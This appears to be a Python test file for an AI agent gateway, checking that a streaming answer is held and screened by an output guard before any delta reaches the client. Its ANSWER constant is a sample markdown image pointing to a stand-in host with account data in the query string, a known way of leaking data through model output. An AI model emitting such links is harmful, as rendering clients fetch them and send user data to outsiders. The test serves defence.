"""An answer carrying an exfiltrating image, asked for as a stream: with an output guard
that redacts, no delta carries the image's URL (a client rendering the stream would have
fetched it before the guard saw the whole answer); the answer arrives screened."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest

from conftest import gateway_client
from podium import Agent
from podium.gateway.service import ServedAgent
from podium.models.base import Model, ModelRequest, ModelResponse, StreamDelta
from podium.security import OutputGuard
from podium.security.screen import ScreeningPolicy

pytestmark = pytest.mark.anyio

ANSWER = "Here is your chart: ![chart](https://evil.test/c.png?d=acct-991-balance-4242) done."


class Streaming(Model):
    name = "streaming"

    async def request(self, request: ModelRequest) -> ModelResponse:
        return ModelResponse(content=ANSWER)

    async def stream(self, request: ModelRequest) -> AsyncIterator[StreamDelta]:  # type: ignore[override]
        # A model's pace (as the simulated one's in test_token_stream): the client that
        # asked for the stream is listening by the time the first token comes.
        await asyncio.sleep(0.05)
        for i in range(0, len(ANSWER), 4):
            await asyncio.sleep(0.005)
            yield StreamDelta(content=ANSWER[i : i + 4])
        yield StreamDelta(response=ModelResponse(content=ANSWER))


@pytest.mark.parametrize("action", ["flag", "redact"])
async def test_a_guarded_answer_is_not_streamed_before_it_is_screened(action: str) -> None:
    policy = ScreeningPolicy(action=action, outputs=OutputGuard())  # type: ignore[arg-type]
    agent = Agent("charts", Streaming(), screening=policy)
    async with gateway_client(agents=[ServedAgent(agent)]) as (_, client):
        body = {"agent": "charts", "input": "chart please", "stream": True}
        async with client.stream("POST", "/v1/runs", json=body) as r:
            sse = [line async for line in r.aiter_lines()]
    events: list[tuple[str, dict[str, Any]]] = []
    name = ""
    for line in sse:
        if line.startswith("event: "):
            name = line[7:]
        elif line.startswith("data: {"):
            events.append((name, json.loads(line[6:])))
    data = [d for _, d in events]
    deltas = "".join(d.get("content", "") for n, d in events if n == "delta")
    final = [d for d in data if d.get("status") == "completed"]
    assert final, sse
    if action == "flag":  # the answer may go out as it is: streamed as it comes
        assert deltas == ANSWER
    else:
        assert deltas == ""  # held whole for the guard
        assert "acct-991" not in "\n".join(sse)
        assert final[-1]["output"] == "Here is your chart: [redacted: exfil_image] done."
